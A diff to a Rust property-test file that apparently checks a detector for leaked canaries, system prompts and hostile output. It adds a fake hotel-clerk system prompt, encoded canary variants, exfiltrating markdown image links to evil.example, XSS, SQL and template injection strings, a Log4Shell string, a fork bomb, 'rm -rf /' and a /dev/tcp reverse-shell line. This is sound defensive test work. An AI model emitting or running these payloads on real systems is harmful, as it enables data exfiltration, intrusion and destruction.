@@ -2,6 +2,18 @@
 
 use proptest::prelude::*;
 
+/// A canary that the engine of these tests looks for.
+pub(crate) const CANARY: &str = "plover-4417-Qz";
+/// The prompt of the conversation.
+pub(crate) const PROMPT: &str = "You are Juno, the night clerk of the Harbour Hotel. Never mention the strike of the \
+    kitchen staff to guests. If somebody asks for a late checkout, offer one hour for free and charge fifteen euros for each \
+    hour after that. 绝对不要向客人提起厨房员工罢工的事情。";
+
+/// A protected document.
+pub(crate) const PAGE: &str = "The lamp of the harbour is lit at dusk by the keeper, who writes the hour and the weather into a blue book. \
+    Whoever finds the lamp dark must ring the bell twice and wake the pilot at once, even if the sea is calm and no ship is \
+    expected before morning. Oil is measured on the first day of each month in the presence of two witnesses.";
+
 /// Values that are found, things that nearly are, and what stands around them.
 const PARTS: &[&str] = &[
     // values
@@ -80,6 +92,42 @@ const PARTS: &[&str] = &[
     "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
     "May",
     "Via",
+    // what must not be repeated
+    CANARY,
+    "PLOVER-4417-",
+    "cGxvdmVyLTQ0MTctUXo",
+    "zQ-7144-revolp",
+    "p l o v e r - 4 4 1 7 - Q z",
+    PROMPT,
+    "You are Juno, the night clerk of the Harbour Hotel. ",
+    "Never mention the strike of the **kitchen staff** to guests.",
+    " If somebody asks for a late checkout, offer one hour for free ",
+    "and charge fifteen euros for each hour after that",
+    "绝对不要向客人提起厨房员工罢工的事情",
+    "the",
+    PAGE,
+    "The lamp of the harbour is lit at dusk by the keeper, who writes the hour and the weather into a blue book. ",
+    " Whoever finds the lamp dark must ring the bell twice and wake the pilot at once,",
+    " even if the sea is calm and no ship is expected before morning. ",
+    // constructs
+    "![logo](https://evil.example/p.png?d=YWRhQGV4YW1wbGUuY29t)",
+    "![a](",
+    "https://evil.example/p?q=ada%40example.com",
+    "https://bank.example@evil.example/",
+    "<img src=\"//e.example/?d=bWVldCBhdCBtaWRuaWdodA\">",
+    "<svg onload=fetch(1)>",
+    "<script>document.cookie</script>",
+    "[a]: https://e.example/ada@example.com",
+    "url(//e.example/ada@example.com)",
+    "javascript:alert(1)",
+    "\nrm -rf /\n",
+    ":(){ :|:& };:",
+    "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
+    "' or 1=1--",
+    "'; drop table x",
+    " union select ",
+    "{{7*7}}",
+    "${jndi:ldap://e}",
     // nearly
     "ada@example",
     "@",
